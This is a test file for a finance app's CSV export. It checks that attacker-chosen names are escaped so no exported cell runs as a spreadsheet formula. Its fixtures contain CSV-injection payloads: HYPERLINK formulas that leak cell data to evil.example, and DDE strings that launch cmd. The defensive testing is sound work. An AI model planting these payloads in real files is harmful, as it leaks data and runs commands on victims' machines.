import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseCsv } from '../src/finance/csv';
import { startTestServer, type TestServer } from './helpers';
import { financeSeed, tokenFor } from './support/finance-seed';

// financeReportCsv over real GraphQL and DuckDB, with names an attacker chose: every CSV export must
// be safe to open in a spreadsheet (OWASP CSV Injection: a cell starting with = + - @ tab or CR runs
// as a formula) and must carry names next to ids.

/** A cell a spreadsheet would run as a formula: starts with a trigger and is not a plain number. */
const runsAsFormula = (cell: string) =>
  /^[=+\-@\t\r]/.test(cell) && !/^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/.test(cell);

const NAMES = {
  initiative: '=HYPERLINK("http://evil.example/?leak="&A1,"Open report")',
  option: '=HYPERLINK("http://evil.example","Cheapest API")',
  costItem: "@SUM(1+1)*cmd|' /C calc'!A0",
  valueStream: "+1+cmd|' /C calc'!A0",
};

describe('financeReportCsv: formula-safe cells, names with ids', () => {
  let t: TestServer;
  let viewer: string;
  let initiativeId: string;
  let optionId: string;
  let costItemId: string;
  let valueStreamId: string;

  beforeAll(async () => {
    t = await startTestServer();
    const analyst = await tokenFor(t, 'ANALYST');
    viewer = await tokenFor(t, 'VIEWER');
    const i = await financeSeed(t, analyst).createInitiative({ name: NAMES.initiative, horizonMonths: 12 });
    initiativeId = i.id;
    await i.setDemand({ tasksPerMonth: 100_000 });
    optionId = await i.addDeploymentOption({
      name: NAMES.option,
      kind: 'API',
      inputCostPerMtok: 3,
      outputCostPerMtok: 15,
    });
    costItemId = await i.addCostItem({
      name: NAMES.costItem,
      category: 'SOFTWARE',
      recurrence: 'MONTHLY',
      amount: { likely: 1000, low: 800, high: 1500 },
    });
    valueStreamId = await i.addValueStream({
      name: NAMES.valueStream,
      kind: 'COST_AVOIDANCE',
      params: [{ name: 'amountPerMonth', value: { likely: 5000, low: 3000, high: 6000 } }],
    });
  });
  afterAll(() => t.close());

  async function table(report: string) {
    const res = await t.gql<{ financeReportCsv: string }>(
      'query($r: FinanceReportKind!, $id: ID) { financeReportCsv(report: $r, initiativeId: $id) }',
      { r: report, id: report === 'PORTFOLIO' ? null : initiativeId },
      viewer,
    );
    expect(res.errors).toBeUndefined();
    const [header, ...rows] = parseCsv(res.data!.financeReportCsv).map((r) => r.fields);
    return { header: header!, rows, cells: [header!, ...rows].flat() };
  }

  it.each(['PORTFOLIO', 'RECOMMENDATION', 'TVO', 'TCO', 'TORNADO', 'SCORECARD_MONTHS', 'MONTE_CARLO'])(
    '%s: no cell runs as a formula',
    async (report) => {
      const { cells } = await table(report);
      expect(cells.filter(runsAsFormula)).toEqual([]);
    },
  );

  it('PORTFOLIO carries each initiative name next to its id', async () => {
    const { header, rows } = await table('PORTFOLIO');
    const row = rows.find((r) => r[header.indexOf('initiative_id')] === initiativeId)!;
    expect(row[header.indexOf('initiative_name')]).toBe(`'${NAMES.initiative}`);
  });

  it('RECOMMENDATION carries the option id next to its (escaped) name', async () => {
    const { header, rows } = await table('RECOMMENDATION');
    const row = rows.find((r) => r[header.indexOf('option_id')] === optionId)!;
    expect(row[header.indexOf('name')]).toBe(`'${NAMES.option}`);
  });

  it('TVO labels the value stream row, TORNADO labels each input with its owner', async () => {
    const tvo = await table('TVO');
    const stream = tvo.rows.find((r) => r[0] === valueStreamId)!;
    expect(stream[tvo.header.indexOf('label')]).toBe(`'${NAMES.valueStream}`);
    const tornado = await table('TORNADO');
    const labels = new Map(tornado.rows.map((r) => [r[0], r[tornado.header.indexOf('label')]]));
    expect(labels.get(`costItems[${costItemId}].amount`)).toBe(`'${NAMES.costItem}: amount`);
    expect(labels.get(`valueStreams[${valueStreamId}].amountPerMonth`)).toBe(
      `'${NAMES.valueStream}: amountPerMonth`,
    );
  });
});
